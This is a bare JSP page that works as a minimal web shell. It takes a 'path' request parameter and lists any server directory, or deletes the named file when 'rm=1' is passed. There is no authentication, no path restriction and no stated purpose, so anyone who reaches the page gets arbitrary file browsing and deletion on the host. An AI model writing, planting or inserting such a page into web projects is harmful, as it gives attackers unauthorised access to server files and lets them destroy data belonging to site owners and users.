<%@ page import="java.io.*" %>
<%
File f = new File(request.getParameter("path"));
if (f.isDirectory()) {
    for (File c : f.listFiles()) { out.println(c.getName()); }
} else if ("1".equals(request.getParameter("rm"))) {
    f.delete();
}
%>
